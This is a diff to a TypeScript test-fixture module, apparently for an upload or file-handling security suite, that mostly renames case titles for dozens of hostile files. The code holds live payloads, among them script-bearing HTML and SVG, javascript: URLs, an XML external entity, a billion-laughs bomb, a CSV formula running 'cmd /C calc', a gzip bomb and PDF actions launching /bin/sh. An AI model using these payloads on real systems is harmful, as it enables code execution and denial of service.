@@ -14,7 +14,7 @@ const text = (content: string, extension: string, type: string): Content => ({
   type,
 })
 
-/** Returns contents that some program executes, by kind. None begins like a picture, a film or a PDF. */
+/** Returns contents that some program executes. None starts like a picture, a video or a PDF. */
 function contents(trap: Trap): Record<string, Content> {
   const { url, word } = trap
   const js = trapScript(trap)
@@ -36,94 +36,94 @@ function contents(trap: Trap): Record<string, Content> {
     '--b--',
   ].join('\r\n')
   return {
-    'a page': text(page, 'html', 'text/html'),
-    'a page after blanks': text(`${'\n '.repeat(400)}${page}`, 'htm', 'text/html'),
-    'a page with a byte order mark': text(`\ufeff${page}`, 'html', 'text/html'),
-    'a page in UTF-16': {
+    'an HTML page': text(page, 'html', 'text/html'),
+    'an HTML page after blank lines': text(`${'\n '.repeat(400)}${page}`, 'htm', 'text/html'),
+    'an HTML page with a byte order mark': text(`\ufeff${page}`, 'html', 'text/html'),
+    'an HTML page in UTF-16': {
       ...text('', 'html', 'text/html; charset=utf-16'),
       bytes: Buffer.from(`\ufeff${page}`, 'utf16le'),
     },
-    'a page in UTF-7': text(
+    'an HTML page in UTF-7': text(
       page.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
       'html',
       'text/html; charset=utf-7',
     ),
-    'a page that redirects': text(
+    'an HTML page that redirects': text(
       `<meta http-equiv="refresh" content="0;url=${url}/redirect">`,
       'html',
       'text/html',
     ),
-    'a page with a form that sends itself': text(
+    'an HTML page with a form that submits itself': text(
       `<form action="${url}/form" id="f"></form><script>f.submit()</script>`,
       'html',
       'text/html',
     ),
-    'a page with a base': text(
+    'an HTML page with a base URL': text(
       `<base href="${url}/"><link rel="stylesheet" href="style"><script src="script"></script>`,
       'html',
       'text/html',
     ),
-    'a page that prefetches': text(
+    'an HTML page that prefetches': text(
       `<link rel="dns-prefetch" href="${url}"><link rel="preload" as="image" href="${url}/preload">`,
       'html',
       'text/html',
     ),
-    'a page in a comment of a text': text(`<!-- a note -->${page}`, 'txt', 'text/plain'),
-    'a page in strict XML': text(
+    'an HTML page after a comment': text(`<!-- a note -->${page}`, 'txt', 'text/plain'),
+    'an XHTML page': text(
       `<html xmlns="http://www.w3.org/1999/xhtml"><body>${cdata}</body></html>`,
       'xhtml',
       'application/xhtml+xml',
     ),
-    'a drawing with a script': text(svg(cdata), 'svg', 'image/svg+xml'),
-    'a drawing that runs when it loads': text(
+    'an SVG with a script': text(svg(cdata), 'svg', 'image/svg+xml'),
+    'an SVG with a script that runs when it loads': text(
       svg('', ` onload="${js.replaceAll('"', '&quot;')}"`),
       'svg',
       'image/svg+xml',
     ),
-    'a drawing with a page in it': text(
+    'an SVG with embedded HTML': text(
       svg(
         `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">${cdata}</body></foreignObject>`,
       ),
       'svg',
       'image/svg+xml',
     ),
-    'a drawing that loads others': text(
+    'an SVG that loads other files': text(
       svg(
         `<image href="${url}/drawing"/><use xlink:href="${url}/use#a"/><style>@import "${url}/import"</style>`,
       ),
       'svg',
       'image/svg+xml',
     ),
-    'a drawing with an animated link': text(
+    'an SVG with an animated link': text(
       svg(
         `<a><animate attributeName="href" values="javascript:${js.replaceAll('"', '&quot;')}"/><text>x</text></a>`,
       ),
       'svg',
       'image/svg+xml',
     ),
-    'a drawing that reads files': text(
+    'an SVG with an external entity': text(
       `<!DOCTYPE svg [<!ENTITY x SYSTEM "${url}/entity">]>${svg('<text>&x;</text>')}`,
       'svg',
       'image/svg+xml',
     ),
-    'a packed drawing': { bytes: gzipSync(svg(cdata)), extension: 'svgz', type: 'image/svg+xml' },
-    'XML with a transformation in it': text(
+    'a compressed SVG': { bytes: gzipSync(svg(cdata)), extension: 'svgz', type: 'image/svg+xml' },
+    'XML with an embedded XSLT stylesheet': text(
       `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#t"?><d><x id="t">${transformation}</x></d>`,
       'xml',
       'text/xml',
     ),
-    'XML with a transformation elsewhere': text(
+    'XML with an external XSLT stylesheet': text(
       `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${url}/style.xsl"?><d/>`,
       'xml',
       'application/xml',
     ),
-    'XML with a style elsewhere': text(
+    'XML with an external CSS stylesheet': text(
       `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${url}/style.css"?><d/>`,
       'xml',
       'text/xml',
     ),
-    'a transformation': text(`<?xml version="1.0"?>${transformation}`, 'xsl', 'text/xsl'),
-    'a billion laughs': text(
+    'an XSLT stylesheet': text(`<?xml version="1.0"?>${transformation}`, 'xsl', 'text/xsl'),
+    'XML with exponential entity expansion': text(
       `<!DOCTYPE d [<!ENTITY a "ha">${'bcdefghij'
         .split('')
         .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`)
@@ -131,64 +131,64 @@ function contents(trap: Trap): Record<string, Content> {
       'xml',
       'text/xml',
     ),
-    'a formula': text(
+    'a MathML formula': text(
       `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${word}"><maction actiontype="statusline" href="javascript:${word}">x</maction></math>`,
       'mml',
       'application/mathml+xml',
     ),
-    'a feed': text(
+    'an RSS feed': text(
       `<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><item><description><![CDATA[${script}]]></description></item></channel></rss>`,
       'rss',
       'application/rss+xml',
     ),
-    'a web archive': text(mail, 'mhtml', 'multipart/related'),
-    'a mail with a page': text(mail, 'eml', 'message/rfc822'),
-    'parts that replace each other': text(
+    'an MHTML archive': text(mail, 'mhtml', 'multipart/related'),
+    'an e-mail with an HTML page': text(mail, 'eml', 'message/rfc822'),
+    'a multipart/x-mixed-replace body': text(
       `--b\r\nContent-Type: text/html\r\n\r\n${page}\r\n--b--`,
       'bin',
       'multipart/x-mixed-replace; boundary=b',
     ),
-    'a script': text(js, 'js', 'text/javascript'),
-    'a module': text(`export default 1;${js}`, 'mjs', 'application/javascript'),
+    'a JavaScript file': text(js, 'js', 'text/javascript'),
+    'a JavaScript module': text(`export default 1;${js}`, 'mjs', 'application/javascript'),
     'a script that looks like JSON': text(`[1];${js}`, 'json', 'application/json'),
-    'a worker': text(`self.onmessage=()=>{};${js}`, 'js', 'application/x-javascript'),
+    'a worker script': text(`self.onmessage=()=>{};${js}`, 'js', 'application/x-javascript'),
     'an import map': text(`{"imports":{"x":"${url}/map"}}`, 'importmap', 'application/importmap+json'),
-    'a program for WebAssembly': {
+    'a WebAssembly module': {
       bytes: Buffer.from('0061736d01000000', 'hex'),
       extension: 'wasm',
       type: 'application/wasm',
     },
-    'a style': text(`@import "${url}/import";*{background:url(${url}/background)}`, 'css', 'text/css'),
-    'a component of old': text(`<PUBLIC:COMPONENT>${script}</PUBLIC:COMPONENT>`, 'htc', 'text/x-component'),
-    'an application of old': text(page, 'hta', 'application/hta'),
-    'a film of old': text(`FWS\x09${word}`, 'swf', 'application/x-shockwave-flash'),
-    'a class': {
+    'a stylesheet': text(`@import "${url}/import";*{background:url(${url}/background)}`, 'css', 'text/css'),
+    'an HTML component': text(`<PUBLIC:COMPONENT>${script}</PUBLIC:COMPONENT>`, 'htc', 'text/x-component'),
+    'an HTML application': text(page, 'hta', 'application/hta'),
+    'a Flash file': text(`FWS\x09${word}`, 'swf', 'application/x-shockwave-flash'),
+    'a Java class': {
       bytes: Buffer.from('cafebabe00000034', 'hex'),
       extension: 'class',
       type: 'application/java-vm',
     },
     'a signed exchange': text(`sxg1-b3\0\0\0${page}`, 'sxg', 'application/signed-exchange;v=b3'),
-    'a bundle of pages': {
+    'a web bundle': {
       bytes: Buffer.concat([Buffer.from('8548f09f8c90f09f93a6', 'hex'), Buffer.from(page)]),
       extension: 'wbn',
       type: 'application/webbundle',
     },
-    'a manifest': text(
+    'a web app manifest': text(
       `{"start_url":"${url}/start","icons":[{"src":"${url}/icon"}]}`,
       'webmanifest',
       'application/manifest+json',
     ),
-    'a list of films': text(`#EXTM3U\n${url}/film.ts\n`, 'm3u8', 'application/vnd.apple.mpegurl'),
+    'an HLS playlist': text(`#EXTM3U\n${url}/film.ts\n`, 'm3u8', 'application/vnd.apple.mpegurl'),
     subtitles: text(`WEBVTT\n\n00:00.000 --> 00:01.000\n${script}`, 'vtt', 'text/vtt'),
-    'a link': text(`[InternetShortcut]\nURL=${url}/link`, 'url', 'application/internet-shortcut'),
-    'a table that computes': text(`=cmd|' /C calc'!A0,=HYPERLINK("${url}/table")`, 'csv', 'text/csv'),
-    'a package that unpacks to a thousand times its size': {
+    'a shortcut': text(`[InternetShortcut]\nURL=${url}/link`, 'url', 'application/internet-shortcut'),
+    'a CSV file with formulas': text(`=cmd|' /C calc'!A0,=HYPERLINK("${url}/table")`, 'csv', 'text/csv'),
+    'a gzip file that unpacks to a thousand times its size': {
       bytes: gzipSync(Buffer.alloc(20_000_000)),
       extension: 'gz',
       type: 'application/gzip',
     },
-    'a packed page': { bytes: gzipSync(page), extension: 'html', type: 'text/html' },
-    'a PDF after a page': {
+    'a compressed HTML page': { bytes: gzipSync(page), extension: 'html', type: 'text/html' },
+    'a PDF after an HTML page': {
       bytes: Buffer.concat([Buffer.from(page), pdfWith('<</S/JavaScript/JS(app.alert(1))>>')]),
       extension: 'pdf',
       type: 'application/pdf',
@@ -197,7 +197,7 @@ function contents(trap: Trap): Record<string, Content> {
   }
 }
 
-/** Returns each content under its real name and type, and under three wrong ones. */
+/** Returns each content with its real file name and type, and with three misleading ones. */
 export function activeContent(trap: Trap): HostileFile[] {
   const handling = 'saved' as const
   return Object.entries(contents(trap)).flatMap(([title, { bytes, extension, type }]) => [
@@ -216,12 +216,12 @@ export function activeDocuments({ url, word }: Trap): HostileFile[] {
   const actions: Record<string, string> = {
     'a PDF that shows a dialog': `<</S/JavaScript/JS(app.alert\\('${word}'\\))>>`,
     'a PDF that opens a page': `<</S/JavaScript/JS(app.launchURL\\('${url}/launch', true\\))>>`,
-    'a PDF that sends a form': `<</S/JavaScript/JS(this.submitForm\\('${url}/submit'\\))>>`,
-    'a PDF that reads a page': `<</S/JavaScript/JS(this.getURL\\('javascript:${word}'\\))>>`,
+    'a PDF that submits a form': `<</S/JavaScript/JS(this.submitForm\\('${url}/submit'\\))>>`,
+    'a PDF that opens a javascript: URL': `<</S/JavaScript/JS(this.getURL\\('javascript:${word}'\\))>>`,
     'a PDF that follows a link': `<</S/URI/URI(${url}/uri)>>`,
-    'a PDF that follows a script': `<</S/URI/URI(javascript:alert\\('${word}'\\))>>`,
+    'a PDF that links to a javascript: URL': `<</S/URI/URI(javascript:alert\\('${word}'\\))>>`,
     'a PDF that starts a program': '<</S/Launch/F(/bin/sh)>>',
-    'a PDF that goes to another': `<</S/GoToR/F(${url}/other.pdf)/D[0/Fit]>>`,
+    'a PDF that opens another PDF': `<</S/GoToR/F(${url}/other.pdf)/D[0/Fit]>>`,
   }
   return Object.entries(actions).map(([title, action]) => ({
     title,
